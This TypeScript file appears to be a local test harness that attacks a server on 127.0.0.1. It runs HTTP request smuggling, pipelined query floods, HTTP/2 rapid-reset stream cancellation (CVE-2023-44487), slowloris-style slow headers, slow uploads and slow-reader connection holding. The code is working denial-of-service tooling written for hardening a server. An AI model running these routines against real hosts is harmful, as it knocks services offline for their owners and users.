import { connect as connectHttp2, constants } from 'node:http2'
import { connect, type Socket } from 'node:net'

/** Visitors who mean harm, for as long as they are let: each goes on by itself and counts what it has tried. */
export interface Attack {
  readonly name: string
  readonly tries: () => number
}

/** Where the attackers find delivery; all on this machine. */
export interface Target {
  readonly httpPort: number
  readonly httpsPort: number
  readonly host: string
}

const SMUGGLED = 'GET /smuggled HTTP/1.1\r\nhost: smuggled.invalid\r\n\r\n'

/** Send bytes and wait until the connection closes, or long enough. */
const send = (port: number, bytes: string, forMs = 3000): Promise<void> =>
  new Promise((resolve) => {
    const socket = connect(port, '127.0.0.1', () => socket.write(bytes))
    socket.setTimeout(forMs, () => socket.destroy())
    socket.on('error', () => undefined)
    socket.resume().once('close', () => resolve())
  })

/** Keep so many connections busy with what is written to them when they open, and now and then after. */
const hold = (port: number, first: string, more: string, count: number, going: () => boolean): (() => void) => {
  const sockets = new Set<Socket>()
  const open = (): void => {
    if (!going() || sockets.size >= count) return
    const socket = connect(port, '127.0.0.1', () => socket.write(first))
    sockets.add(socket)
    socket.on('error', () => undefined)
    socket.once('close', () => {
      sockets.delete(socket)
      setTimeout(open, 50)
    })
    // A slow reader takes nothing at all.
    socket.pause()
  }
  for (let i = 0; i < count; i++) open()
  const drip = setInterval(() => {
    for (const socket of sockets) if (more !== '') socket.write(more)
    if (going()) return
    clearInterval(drip)
    for (const socket of sockets) socket.destroy()
  }, 500)
  return open
}

const smuggle = async ({ httpPort, host }: Target, going: () => boolean, count: () => void): Promise<void> => {
  const methods = ['GET', 'HEAD', 'DELETE', 'OPTIONS', 'POST']
  for (let i = 0; going(); i++) {
    count()
    const method = methods[i % methods.length]
    const framing =
      i % 2 === 0
        ? `connection: keep-alive, content-length\r\ncontent-length: ${SMUGGLED.length}`
        : 'connection: transfer-encoding\r\ntransfer-encoding: chunked'
    const content = i % 2 === 0 ? SMUGGLED : `${SMUGGLED.length.toString(16)}\r\n${SMUGGLED}\r\n0\r\n\r\n`
    await send(
      httpPort,
      `${method} /page/${i % 60}?x=${i % 7} HTTP/1.1\r\nhost: ${host}\r\n${framing}\r\n\r\n${content}`,
      500,
    )
  }
}

const floodWithQueries = async ({ httpPort, host }: Target, going: () => boolean, count: () => void): Promise<void> => {
  while (going()) {
    count()
    const lines = Array.from(
      { length: 20 },
      () => `GET /page/1?made-up=${Math.random()} HTTP/1.1\r\nhost: ${host}\r\n\r\n`,
    )
    await send(
      httpPort,
      `${lines.join('')}GET //?zest-trial-key=${Math.random()} HTTP/1.1\r\nhost: ${host}\r\nconnection: close\r\n\r\n`,
      2000,
    )
  }
}

/** Streams of HTTP/2 that are begun and given up at once ("rapid reset", CVE-2023-44487). */
const resetStreams = async ({ httpsPort, host }: Target, going: () => boolean, count: () => void): Promise<void> => {
  while (going()) {
    await new Promise<void>((resolve) => {
      const session = connectHttp2(`https://127.0.0.1:${httpsPort}`, { rejectUnauthorized: false, servername: host })
      session.on('error', () => resolve())
      session.on('close', () => resolve())
      session.on('connect', () => {
        for (let i = 0; i < 200; i++) {
          count()
          const stream = session.request({ ':path': `/page/${i % 60}`, ':authority': host })
          stream.on('error', () => undefined)
          stream.close(constants.NGHTTP2_CANCEL)
        }
        setTimeout(() => session.destroy(), 100)
      })
    })
  }
}

/**
 * Begin all attacks.
 * @param going false: they end
 * @param streams a path whose answer is a stream without end; undefined: there is none
 */
export const attack = (target: Target, going: () => boolean, streams: string | undefined): Attack[] => {
  const begun: Attack[] = []
  const begin = (name: string, work: (count: () => void) => Promise<void> | void): void => {
    let tries = 0
    begun.push({ name, tries: () => tries })
    Promise.resolve(work(() => tries++)).catch((error: Error) => console.error(`${name}: ${error.message}`))
  }
  const { httpPort, host } = target
  begin('smuggled requests', (count) => smuggle(target, going, count))
  begin('floods of made-up addresses', (count) => floodWithQueries(target, going, count))
  begin('streams reset at once', (count) => resetStreams(target, going, count))
  begin('slow headers', () => void hold(httpPort, `GET / HTTP/1.1\r\nhost: ${host}\r\n`, 'x-a: b\r\n', 100, going))
  begin(
    'slow uploads',
    () =>
      void hold(
        httpPort,
        `POST /upload HTTP/1.1\r\nhost: ${host}\r\ntransfer-encoding: chunked\r\n\r\n`,
        '1\r\nx\r\n',
        100,
        going,
      ),
  )
  begin(
    'slow readers',
    () => void hold(httpPort, `GET /page/1 HTTP/1.1\r\nhost: ${host}\r\n\r\n`.repeat(50), '', 100, going),
  )
  if (streams !== undefined)
    begin('stream hogs', () => void hold(httpPort, `GET ${streams} HTTP/1.1\r\nhost: ${host}\r\n\r\n`, '', 100, going))
  return begun
}
